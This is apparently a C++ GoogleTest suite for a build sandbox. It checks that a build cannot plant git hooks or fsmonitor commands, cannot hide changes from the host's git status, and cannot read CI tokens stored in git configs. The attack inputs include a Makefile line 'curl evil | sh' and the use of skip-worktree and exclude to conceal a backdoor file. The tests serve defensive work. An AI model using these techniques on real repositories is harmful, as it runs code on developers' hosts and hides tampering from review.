// The repository's git metadata against a build that owns the repository (issue 12):
// what the build writes must not run later outside the sandbox, hide its changes from
// the host's `git status`, or read the CI's credentials. Each test performs the attack
// in a sandbox as the unprivileged user and checks from the host that it failed; read-
// only git keeps working inside.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <string>

#include "harness.hpp"

namespace sbx::test {
namespace {

const char* kGit = "git -c user.name=dev -c user.email=dev@example.invalid";

// A repository with one commit and a tag, as the test user.
std::string make_repo(const std::string& extra = "") {
  std::string dir = make_temp_dir("repo");
  RunOptions o;
  o.cwd = dir;
  std::string script = std::string("set -e; git init -q .; printf 'all:\\n\\ttrue\\n' > Makefile; ") + kGit +
                       " add Makefile; " + kGit + " commit -qm init; " + kGit + " tag -a v1.0 -m v1.0; " + extra;
  Result r = run({"/bin/sh", "-c", script}, o);
  if (r.status != 0) throw std::runtime_error("make_repo: " + r.err);
  return dir;
}

Result host_sh(const std::string& dir, const std::string& script) {
  RunOptions o;
  o.cwd = dir;
  return run({"/bin/sh", "-c", script}, o);
}

Result in_sandbox(const std::string& dir, const std::string& script, const std::vector<std::string>& args = {}) {
  RunOptions o;
  o.cwd = dir;
  return sbx_sh(script, args, o);
}

bool exists(const std::string& p) {
  struct stat st {};
  return ::lstat(p.c_str(), &st) == 0;
}

class GuardGit : public ::testing::TestWithParam<std::string> {
 protected:
  std::vector<std::string> profile() const {
    return GetParam() == "default" ? std::vector<std::string>{} : std::vector<std::string>{GetParam()};
  }
};

TEST_P(GuardGit, HookAndFsmonitorWrittenInsideDoNotRunOnTheHost) {
  std::string repo = make_repo();
  std::string mark = make_temp_dir("mark");
  ::chmod(mark.c_str(), 0777);
  std::string hook = "#!/bin/sh\ntouch " + mark + "/hook-ran\n";
  Result r = in_sandbox(repo,
                        "printf '" + hook + "' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
                        "git config core.fsmonitor 'touch " + mark + "/fsmonitor-ran; false'; "
                        "git config core.hooksPath /tmp; echo changed >> Makefile; true",
                        profile());
  EXPECT_EQ(r.status, 0) << r.err;
  Result h = host_sh(repo, std::string(kGit) + " commit -qam 'host commit'; git status --short; true");
  EXPECT_FALSE(exists(mark + "/hook-ran")) << h.out << h.err;
  EXPECT_FALSE(exists(mark + "/fsmonitor-ran")) << h.out << h.err;
  EXPECT_FALSE(exists(repo + "/.git/hooks/pre-commit"));
  EXPECT_EQ(read_file(repo + "/.git/config").find("fsmonitor"), std::string::npos);
}

TEST_P(GuardGit, ChangesCannotBeHiddenFromTheHostsStatus) {
  std::string repo = make_repo();
  Result r = in_sandbox(repo,
                        "echo 'all:; curl evil | sh' > Makefile; git update-index --skip-worktree Makefile; "
                        "git update-index --assume-unchanged Makefile; echo Makefile >> .git/info/exclude; "
                        "echo backdoor > tool.sh; echo tool.sh >> .git/info/exclude; true",
                        profile());
  EXPECT_EQ(r.status, 0) << r.err;
  Result h = host_sh(repo, "git status --porcelain");
  EXPECT_NE(h.out.find(" M Makefile"), std::string::npos) << h.out << h.err;
  EXPECT_NE(h.out.find("?? tool.sh"), std::string::npos) << h.out << h.err;
  Result d = host_sh(repo, "git diff --stat");
  EXPECT_NE(d.out.find("Makefile"), std::string::npos) << d.out;
}

TEST_P(GuardGit, CredentialsInTheConfigAreNotReadableInside) {
  std::string repo = make_repo(
      "git config http.https://github.com/.extraheader 'AUTHORIZATION: basic R0lUSFVCX1RPS0VO'; "
      "git config http.extraHeader 'PRIVATE-TOKEN: GLOBALSECRET'; "
      "git remote add origin https://gitlab-ci-token:JOBTOKEN123@gitlab.example.com/g/p.git; "
      "git remote add mirror https://ONLYTOKEN456@github.com/o/r.git; "
      "git remote add ssh ssh://git@example.com/o/r.git");
  std::string before = read_file(repo + "/.git/config");
  Result r = in_sandbox(repo, "cat .git/config; git config --list --show-origin; grep -r TOKEN .git/config; true", profile());
  EXPECT_EQ(r.status, 0) << r.err;
  for (const char* secret : {"R0lUSFVCX1RPS0VO", "GLOBALSECRET", "JOBTOKEN123", "ONLYTOKEN456"})
    EXPECT_EQ(r.out.find(secret), std::string::npos) << secret << "\n" << r.out;
  // Everything else is there, as on the host.
  EXPECT_NE(r.out.find("url = https://gitlab.example.com/g/p.git"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("ssh://git@example.com/o/r.git"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("logallrefupdates"), std::string::npos) << r.out;
  EXPECT_EQ(read_file(repo + "/.git/config"), before);
}

TEST_P(GuardGit, ReadOnlyGitWorksInside) {
  std::string repo = make_repo();
  Result r = in_sandbox(repo,
                        "set -e; echo more >> Makefile; git status --short; git describe --tags --dirty; "
                        "git log --oneline | wc -l; git diff --stat; git rev-parse HEAD >/dev/null; echo done",
                        profile());
  EXPECT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out.find(" M Makefile"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("v1.0-dirty"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("done"), std::string::npos) << r.out;
}

INSTANTIATE_TEST_SUITE_P(Profiles, GuardGit, ::testing::Values("default", "ci-build", "make", "npm", "pip", "cargo"));

TEST(GuardGitWorktree, AGitFilesGitdirInAWritableBindIsReadOnlyToo) {
  std::string repo = make_repo();
  std::string wt = make_temp_dir("wt") + "/w";
  Result h = host_sh(repo, "git worktree add -q " + wt + " 2>&1");
  ASSERT_EQ(h.status, 0) << h.out;
  // The worktree is the project; the main repository is writable too (a profile that
  // binds it), so the worktree's gitdir and the common .git must be read-only.
  std::string gitfile = read_file(wt + "/.git");
  write_file(wt + "/p.toml", "extends = \"default\"\n[filesystem]\nrw = [\"" + repo + "\"]\n");
  Result r = in_sandbox(wt,
                        "echo 'gitdir: /tmp' > .git; echo x > " + repo + "/.git/hooks/post-checkout; "
                        "echo x > " + repo + "/.git/worktrees/" + wt.substr(wt.rfind('/') + 1) + "/HEAD; "
                        "git status --short >/dev/null && echo status-ok; true",
                        {wt + "/p.toml"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("status-ok"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(read_file(wt + "/.git"), gitfile);
  EXPECT_FALSE(exists(repo + "/.git/hooks/post-checkout"));
  EXPECT_NE(read_file(repo + "/.git/worktrees/" + wt.substr(wt.rfind('/') + 1) + "/HEAD"), "x\n");
}

TEST(GuardGitNested, ASubmodulesGitIsReadOnlyAndOneMadeInsideFailsTheRun) {
  // .gitmodules names sub (a nested repository, .git a directory) and sub2 (not
  // initialised: no .git). The build gives sub an fsmonitor and makes sub2 a repository
  // with one: the host's git in either must run neither.
  std::string repo = make_repo(
      "printf '[submodule \"sub\"]\\n\\tpath = sub\\n\\turl = ../s\\n[submodule \"b\"]\\n\\tpath = \"sub2/\"\\n' "
      "> .gitmodules; git init -q sub; mkdir sub2; echo x > sub2/keep");
  std::string mark = make_temp_dir("mark");
  ::chmod(mark.c_str(), 0777);
  Result r = in_sandbox(repo,
                        "git -C sub config core.fsmonitor 'touch " + mark + "/sub-ran; false'; "
                        "echo 'gitdir: ../.git' > sub/.git; git init -q sub2; "
                        "git -C sub2 config core.fsmonitor 'touch " + mark + "/sub2-ran; false'; echo done");
  EXPECT_NE(r.out.find("done"), std::string::npos) << r.err;
  EXPECT_EQ(r.status, 125) << r.err;
  EXPECT_NE(r.err.find(repo + "/sub2/.git, which the profile protects"), std::string::npos) << r.err;
  Result h = host_sh(repo, "git status --short; git -C sub status --short; git -C sub2 status --short; true");
  EXPECT_FALSE(exists(mark + "/sub-ran")) << h.out << h.err;
  EXPECT_FALSE(exists(mark + "/sub2-ran")) << h.out << h.err;
  EXPECT_FALSE(exists(repo + "/sub2/.git"));
  EXPECT_TRUE(exists(repo + "/sub2/keep"));
  EXPECT_EQ(read_file(repo + "/sub/.git/config").find("fsmonitor"), std::string::npos);
}

TEST(GuardGitNested, CredentialsInSubmoduleAndNestedConfigsAreNotReadableInside) {
  std::string repo = make_repo(
      "git init -q --bare .git/modules/lib; git init -q --bare .git/modules/a/b; "
      "git -C .git/modules/lib config http.https://github.com/.extraheader 'AUTHORIZATION: basic MODTOKEN1'; "
      "git -C .git/modules/a/b config remote.origin.url https://x-access-token:MODTOKEN2@github.com/o/r.git; "
      "printf '[submodule \"n\"]\\n\\tpath = nested\\n' > .gitmodules; git init -q nested; "
      "git -C nested config http.extraheader 'PRIVATE-TOKEN: NESTTOKEN3'");
  Result r = in_sandbox(repo,
                        "cat .git/modules/lib/config .git/modules/a/b/config nested/.git/config; "
                        "git -C .git/modules/lib config --list; git -C nested status --short >/dev/null && echo ok");
  EXPECT_EQ(r.status, 0) << r.err;
  for (const char* secret : {"MODTOKEN1", "MODTOKEN2", "NESTTOKEN3"})
    EXPECT_EQ(r.out.find(secret), std::string::npos) << secret << "\n" << r.out;
  EXPECT_NE(r.out.find("url = https://github.com/o/r.git"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("ok"), std::string::npos) << r.out << r.err;
}

TEST(GuardGitReadOnly, TheStrictProfilesReadOnlyProjectShowsNoCredentials) {
  std::string repo = make_repo(
      "git config http.https://github.com/.extraheader 'AUTHORIZATION: basic STRICTTOKEN1'; "
      "git remote add origin https://gitlab-ci-token:STRICTTOKEN2@gitlab.example.com/g/p.git");
  Result r = in_sandbox(repo, "cat .git/config; git config --list; git describe --tags; git status --short; echo done",
                        {"strict"});
  EXPECT_EQ(r.status, 0) << r.out << r.err;
  for (const char* secret : {"STRICTTOKEN1", "STRICTTOKEN2"}) EXPECT_EQ(r.out.find(secret), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("url = https://gitlab.example.com/g/p.git"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("v1.0"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("done"), std::string::npos) << r.out;
}

TEST(GuardGitConfigPaths, HooksPathAndIncludesInTheProjectCannotBeWritten) {
  // husky's core.hooksPath = .husky/_ (there) and an include.path = ../.gitconfig (not
  // there yet), both in the project: the host's git runs and reads what the build puts
  // there.
  std::string repo = make_repo("git config core.hooksPath .husky/_; git config include.path ../.gitconfig; "
                               "mkdir -p .husky/_");
  std::string mark = make_temp_dir("mark");
  ::chmod(mark.c_str(), 0777);
  std::string hook = "#!/bin/sh\ntouch " + mark + "/hook-ran\n";
  Result r = in_sandbox(repo,
                        "printf '" + hook + "' > .husky/_/pre-commit; chmod +x .husky/_/pre-commit; "
                        "printf '[core]\\n\\tfsmonitor = touch " + mark + "/inc-ran; false\\n' > .gitconfig; "
                        "git status --short >/dev/null && echo status-ok");
  EXPECT_NE(r.out.find("status-ok"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.status, 125) << r.err;
  EXPECT_NE(r.err.find(repo + "/.gitconfig"), std::string::npos) << r.err;
  Result h = host_sh(repo, "echo x >> Makefile; " + std::string(kGit) + " commit -qam c; git status --short; true");
  EXPECT_FALSE(exists(mark + "/hook-ran")) << h.out << h.err;
  EXPECT_FALSE(exists(mark + "/inc-ran")) << h.out << h.err;
  EXPECT_FALSE(exists(repo + "/.gitconfig"));
  EXPECT_FALSE(exists(repo + "/.husky/_/pre-commit"));
}

TEST(GuardGitConfigPaths, ASymlinkedHooksPathIsRefused) {
  std::string repo = make_repo("git config core.hooksPath hooks; mkdir real; ln -s real hooks");
  Result r = in_sandbox(repo, "true");
  EXPECT_EQ(r.status, 125);
  EXPECT_NE(r.err.find("core.hooksPath names " + repo + "/hooks, a symlink"), std::string::npos) << r.err;
}

TEST(GuardGitNested, ARepositoryOneLevelDownIsReadOnly) {
  // A workspace holding checkouts (no repository at the top): tools/ is one.
  std::string ws = make_temp_dir("ws");
  Result h = host_sh(ws, "git init -q tools && git -C tools config http.extraheader 'AUTHORIZATION: WSTOKEN'");
  ASSERT_EQ(h.status, 0) << h.err;
  std::string mark = make_temp_dir("mark");
  ::chmod(mark.c_str(), 0777);
  Result r = in_sandbox(ws, "git -C tools config core.fsmonitor 'touch " + mark + "/ran; false'; "
                            "mkdir -p tools/.git/hooks; echo x > tools/.git/hooks/pre-commit; cat tools/.git/config; "
                            "git -C tools status --short && echo status-ok; true");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("status-ok"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("WSTOKEN"), std::string::npos) << r.out;
  h = host_sh(ws, "git -C tools status --short; true");
  EXPECT_FALSE(exists(mark + "/ran")) << h.out << h.err;
  EXPECT_FALSE(exists(ws + "/tools/.git/hooks/pre-commit"));
}

TEST(GuardGitNested, TheGitDirectoryASubmodulesGitFileNamesIsReadOnly) {
  // sub/.git says "gitdir: ../gits/sub": that directory is in the project, not in .git.
  std::string repo = make_repo(
      "printf '[submodule \"s\"]\\n\\tpath = sub\\n' > .gitmodules; mkdir -p gits sub; "
      "git init -q --bare gits/sub; git -C gits/sub config core.bare false; git -C gits/sub config core.worktree ../../sub; "
      "echo 'gitdir: ../gits/sub' > sub/.git");
  std::string mark = make_temp_dir("mark");
  ::chmod(mark.c_str(), 0777);
  Result r = in_sandbox(repo, "git --git-dir=gits/sub config core.fsmonitor 'touch " + mark + "/ran; false'; "
                              "echo x > gits/sub/hooks/post-checkout; true");
  EXPECT_EQ(r.status, 0) << r.err;
  Result h = host_sh(repo, "git -C sub status --short; true");
  EXPECT_FALSE(exists(mark + "/ran")) << h.out << h.err;
  EXPECT_FALSE(exists(repo + "/gits/sub/hooks/post-checkout"));
}

}  // namespace
}  // namespace sbx::test
